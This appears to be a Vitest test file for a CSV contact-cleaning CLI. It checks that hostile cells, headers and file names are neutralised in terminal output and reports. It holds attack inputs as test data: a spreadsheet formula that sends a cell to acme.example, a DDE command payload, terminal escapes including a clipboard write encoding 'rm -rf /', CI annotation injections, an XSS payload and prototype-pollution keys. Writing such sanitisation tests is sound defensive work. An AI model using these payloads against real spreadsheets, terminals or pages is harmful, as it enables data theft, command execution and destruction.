import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { cli, csvOf, here, inFolder, runOn } from './support.js';

/** What a cell or a header may hold to act on whoever shows it. */
const HOSTILE: Readonly<Record<string, string>> = {
  formula: '=HYPERLINK("http://acme.example/?x="&A1)',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: '@SUM(1+1)',
  tab: '\t=1+1',
  fullWidth: '＝1+1',
  colour: '\u001b[31mrouge\u001b[0m',
  clear: '\u001b[2J\u001b[H',
  link: '\u001b]8;;http://acme.example\u0007ici\u001b]8;;\u0007',
  clipboard: '\u001b]52;c;cm0gLXJmIC8=\u0007',
  c1: '\u009b31m\u009d52;c;AAAA\u009c',
  bidi: '\u202Etxt.exe\u2066x\u2069',
  bell: '\u0007\u0008\u007f',
  annotation: '::error file=a::b',
  stop: '::stop-commands::x',
  vso: '##vso[task.setvariable]x',
  html: '<img src=x onerror=alert(1)>',
  markdown: '|`x`|[a](javascript:b)',
  proto: '__proto__',
  constructor: 'constructor',
};
const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const values = Object.values(HOSTILE);
const headers = ['email', 'source', 'commentaire', ...values, 'multi\nligne\r\n::error::x'];
const body = values.map((value, n) => [
  `p${n}@gmail.com`,
  value,
  value,
  ...values.map((_, column) => values[(column + n) % values.length] as string),
  'x',
]);
const FILE = Buffer.from([headers, ...body].map((row) => row.map(quoted).join(';')).join('\n'));

// oxlint-disable no-control-regex -- control characters are what is looked for
// Our own colours, and nothing else that acts.
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what is looked for
const COLOURS = /\u001b\[\d{1,2}m/g;
const ALIVE = /[^\P{Cc}\n]|[\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/u;

const harmless = (text: string): void => {
  const plain = text.replace(COLOURS, '');
  expect(ALIVE.exec(plain)?.[0].codePointAt(0)).toBeUndefined();
  for (const line of plain.split('\n')) {
    expect(line).not.toMatch(/^\s*::/);
    expect(line).not.toMatch(/##(?:\[|vso\[)/i);
  }
};

describe('cells and headers that act', () => {
  const name = 'con\u001b[31mtacts\u202e::error::.csv';
  const commands: Readonly<Record<string, readonly string[]>> = {
    check: [name, '--rule', 'source-missing:warning'],
    'check, as JSON': [name, '-f', 'json=-', '--check'],
    columns: ['columns', name],
    'columns, as JSON': ['columns', name, '-f', 'json'],
    why: ['why', name, '--row', '9'],
    init: ['init', name, '-o', 'lumo.config.yaml'],
    'an unknown header': [name, '--map', '\u001b[31mrien\u202e=email'],
    'an unknown rule': [name, '--skip', '\u001b]52;c;x\u0007'],
    'a file that is not there': ['\u009b31m\u202erien.csv'],
    'a list that is not there': [name, '--opposition', '\u001b[2Jliste\u202e.txt'],
    'an unknown option': ['--\u001b[31mrien'],
  };

  it.each(Object.entries(commands))('do nothing on a terminal: %s', async (_what, args) => {
    for (const lang of ['en', 'fr']) {
      await inFolder(async (cwd) => {
        writeFileSync(join(cwd, name), FILE);
        const { stdout, stderr, code } = await here(
          [...args, '--lang', lang, ...(args[0]?.startsWith('--') ? [] : ['--as-of', '2026-11-24', '--absent', 'lastInboundAt'])],
          { cwd, env: { FORCE_COLOR: '1' } },
        );
        expect(code).not.toBeNull();
        expect(stdout.length + stderr.length).toBeGreaterThan(0);
        harmless(stdout.toString());
        harmless(stderr.toString());
      });
    }
  });

  it('do nothing on the terminal of a real process, with colours', async () => {
    await inFolder(async (cwd) => {
      writeFileSync(join(cwd, name), FILE);
      const { stdout, stderr, code } = await cli([name, '--as-of', '2026-11-24', '--absent', 'lastInboundAt'], {
        cwd,
        env: { FORCE_COLOR: '1' },
      });
      expect([code, stderr.toString()]).toEqual([1, '']);
      expect(stdout.toString()).toMatch(COLOURS);
      harmless(stdout.toString());
    });
  });

  it('reach no report alive', async () => {
    await inFolder(async (cwd) => {
      writeFileSync(join(cwd, 'contacts.csv'), FILE);
      await here(['contacts.csv', '--as-of', '2026-11-24', '--absent', 'lastInboundAt'], { cwd });
      const text = readFileSync(join(cwd, 'contacts.report.json'), 'utf8');
      harmless(text);
      const report = JSON.parse(text) as { columns: { header: string }[] };
      expect(report.columns.map(({ header }) => header)).toEqual(headers.map((header) => header.trim()));
      expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    });
  });

  it('leave in the cleaned file as they came: data is never rewritten', async () => {
    const { clean, report } = await runOn(FILE, {
      config: {
        absent: ['lastInboundAt'],
        rules: { 'webmail-without-consent': 'off', 'column-beyond-purpose': 'off' },
      },
    });
    expect(report.rows.kept).toBe(values.length);
    expect(clean.equals(FILE)).toBe(true);
    expect(parse(clean, { delimiter: ';' })).toEqual([headers, ...body]);
  });

  it('are columns like any other when they are called after the inside of objects', async () => {
    const columns = { '#1': 'keep', constructor: 'keep', toString: 'keep' } as Record<string, 'keep'>;
    const { clean, report } = await runOn(csvOf('__proto__;constructor;toString;email;source', 'a;b;c;claire@acme.example;Salon'), {
      config: { absent: ['lastInboundAt'], columns },
    });
    expect(clean.toString()).toBe('__proto__;constructor;toString;email;source\na;b;c;claire@acme.example;Salon\n');
    expect(report.columns.map(({ header }) => header)).toEqual(['__proto__', 'constructor', 'toString', 'email', 'source']);
  });
});
